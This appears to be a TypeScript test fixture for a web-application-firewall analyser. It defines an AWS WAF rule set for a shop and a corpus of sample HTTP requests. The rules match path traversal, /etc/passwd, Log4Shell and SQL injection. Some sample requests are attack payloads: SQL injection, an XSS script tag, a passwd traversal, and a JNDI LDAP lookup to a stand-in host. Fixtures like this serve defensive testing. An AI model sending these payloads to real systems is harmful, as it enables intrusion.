import type { StoredWebAcl } from '#estate/model';
import { type HttpRequest, parseRequest, type WafContext } from '#analysis/exposure/waf';

const ARN = 'arn:aws:wafv2:eu-west-1:111122223333:regional';
export const ACL_ARN = `${ARN}/webacl/shop/0`;

const base64 = (text: string) => Buffer.from(text).toString('base64');
const chain = (...kinds: readonly string[]) => kinds.map((Type, Priority) => ({ Type, Priority }));
const bytes = (FieldToMatch: object, search: string, PositionalConstraint: string, ...kinds: readonly string[]) => ({
  ByteMatchStatement: {
    FieldToMatch,
    SearchString: base64(search),
    PositionalConstraint,
    TextTransformations: chain(...kinds),
  },
});
const PATH = { UriPath: {} };
const QUERY = { QueryString: {} };
const ARGUMENTS = { AllQueryArguments: {} };
const BODY = { Body: { OversizeHandling: 'CONTINUE' } };
const HEADERS = { Headers: { MatchPattern: { All: {} }, MatchScope: 'VALUE', OversizeHandling: 'CONTINUE' } };
const header = (Name: string) => ({ SingleHeader: { Name } });

/** Statements of a shop's WebACL with the actions of their rules, in order. */
const RULES: readonly (readonly [statement: object, action: string])[] = [
  [{ IPSetReferenceStatement: { ARN: `${ARN}/ipset/office/0` } }, 'Allow'],
  [{ IPSetReferenceStatement: { ARN: `${ARN}/ipset/blocked/0` } }, 'Block'],
  [{ GeoMatchStatement: { CountryCodes: ['KP', 'SY'] } }, 'Block'],
  [{ RateBasedStatement: { Limit: 2_000, AggregateKeyType: 'IP' } }, 'Block'],
  [bytes(PATH, '/.git/', 'CONTAINS', 'URL_DECODE', 'LOWERCASE'), 'Block'],
  [bytes(PATH, '/etc/passwd', 'CONTAINS', 'URL_DECODE', 'LOWERCASE'), 'Block'],
  [bytes(QUERY, '../', 'CONTAINS', 'URL_DECODE'), 'Block'],
  [bytes(QUERY, '${jndi:', 'CONTAINS', 'URL_DECODE', 'LOWERCASE'), 'Block'],
  [bytes(HEADERS, '${jndi:', 'CONTAINS', 'LOWERCASE'), 'Block'],
  [bytes(BODY, '${jndi:', 'CONTAINS', 'LOWERCASE'), 'Block'],
  [bytes(header('user-agent'), 'sqlmap', 'CONTAINS_WORD', 'LOWERCASE'), 'Block'],
  [
    {
      AndStatement: {
        Statements: [
          bytes(PATH, '/admin', 'STARTS_WITH', 'URL_DECODE', 'LOWERCASE'),
          { NotStatement: { Statement: { IPSetReferenceStatement: { ARN: `${ARN}/ipset/office/0` } } } },
        ],
      },
    },
    'Block',
  ],
  [
    {
      RegexPatternSetReferenceStatement: {
        ARN: `${ARN}/regexpatternset/traversal/0`,
        FieldToMatch: QUERY,
        TextTransformations: chain('URL_DECODE'),
      },
    },
    'Block',
  ],
  [
    {
      RegexMatchStatement: {
        RegexString: String.raw`\.(bak|old|swp|sql)$`,
        FieldToMatch: PATH,
        TextTransformations: chain('URL_DECODE', 'LOWERCASE'),
      },
    },
    'Block',
  ],
  [
    {
      SqliMatchStatement: {
        FieldToMatch: ARGUMENTS,
        TextTransformations: chain('URL_DECODE'),
        SensitivityLevel: 'LOW',
      },
    },
    'Block',
  ],
  [{ SqliMatchStatement: { FieldToMatch: BODY, TextTransformations: chain('URL_DECODE') } }, 'Block'],
  [{ XssMatchStatement: { FieldToMatch: ARGUMENTS, TextTransformations: chain('URL_DECODE') } }, 'Block'],
  [
    {
      SizeConstraintStatement: {
        FieldToMatch: QUERY,
        ComparisonOperator: 'GT',
        Size: 2_048,
        TextTransformations: chain('NONE'),
      },
    },
    'Count',
  ],
  [{ LabelMatchStatement: { Scope: 'LABEL', Key: 'long-query' } }, 'Block'],
  [bytes(header('x-forwarded-host'), 'localhost', 'CONTAINS', 'LOWERCASE'), 'Block'],
];

export const SHOP: StoredWebAcl = {
  Name: 'shop',
  ARN: ACL_ARN,
  DefaultAction: { Allow: {} },
  Rules: RULES.map(([Statement, action], index) => ({
    Name: `rule-${index}`,
    Priority: index,
    Statement,
    Action: { [action]: {} },
    ...(action === 'Count' ? { RuleLabels: [{ Name: 'long-query' }] } : {}),
    VisibilityConfig: { SampledRequestsEnabled: true, CloudWatchMetricsEnabled: true, MetricName: `rule-${index}` },
  })),
};

export const SHOP_CONTEXT: WafContext = {
  resource: 'load-balancer',
  ruleGroups: new Map(),
  ipSets: new Map([
    [`${ARN}/ipset/office/0`, { Addresses: ['198.51.100.0/28', '2001:db8:1::/48'] }],
    [
      `${ARN}/ipset/blocked/0`,
      { Addresses: Array.from({ length: 500 }, (_, index) => `10.${index >> 8}.${index & 255}.0/24`) },
    ],
  ]),
  regexPatternSets: new Map([
    [
      `${ARN}/regexpatternset/traversal/0`,
      {
        RegularExpressionList: [
          { RegexString: String.raw`(?i)/etc/(passwd|shadow)` },
          { RegexString: String.raw`(?:\.\./){2,}` },
          { RegexString: String.raw`(?i)union\s+(all\s+)?select` },
        ],
      },
    ],
  ]),
  managed: () => undefined,
};

const BROWSER = [
  'Host: shop.example.com',
  'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Accept-Language: en-US,en;q=0.5',
  'Accept-Encoding: gzip, deflate, br',
  'Referer: https://shop.example.com/',
  'Cookie: session=7f3a9c1e5b2d4f60; theme=dark; consent=yes',
];

const request = (start: string, body = '', ...more: readonly string[]) =>
  [`${start} HTTP/1.1`, ...BROWSER, ...more, '', body].join('\r\n');

const FORM = 'Content-Type: application/x-www-form-urlencoded';
const JSON_TYPE = 'Content-Type: application/json';

/** What a shop is asked in a minute: mostly pages, some forms, some attacks. */
const TEXTS: readonly string[] = [
  request('GET /'),
  request('GET /products/4711?ref=home&color=dark%20blue'),
  request('GET /search?q=winter+jacket&page=2&sort=price_desc&utm_source=newsletter'),
  request('GET /static/app.3f9c2b.js?v=20260411'),
  request('GET /images/products/4711/large.webp'),
  request('GET /api/v2/cart?fields=items,total,discounts&expand=items.product'),
  request('GET /products/%E3%82%B3%E3%83%BC%E3%83%88?lang=ja'),
  request('GET /account/orders?from=2026-01-01&to=2026-03-31&status=shipped'),
  request('POST /login', 'user=mika%40example.com&password=correct+horse+battery&next=%2Faccount', FORM),
  request(
    'POST /api/v2/cart',
    '{"items":[{"id":4711,"quantity":2,"note":"gift, please wrap"}],"voucher":null}',
    JSON_TYPE,
  ),
  request('POST /contact', `name=Mika&message=${'I+would+like+to+know+when+it+ships.+'.repeat(12)}`, FORM),
  request('GET /search?q=%27%20or%201%3D1--%20-'),
  request('GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'),
  request('GET /download?file=..%2F..%2F..%2Fetc%2Fpasswd'),
  request('GET /', '', 'X-Api-Version: ${jndi:ldap://203.0.113.9/a}'),
  request('GET /admin/users?page=1'),
];

export const CORPUS: readonly HttpRequest[] = TEXTS.map((text, index) => ({
  ...parseRequest(text),
  clientIp: `203.0.113.${index}`,
  country: 'JP',
}));
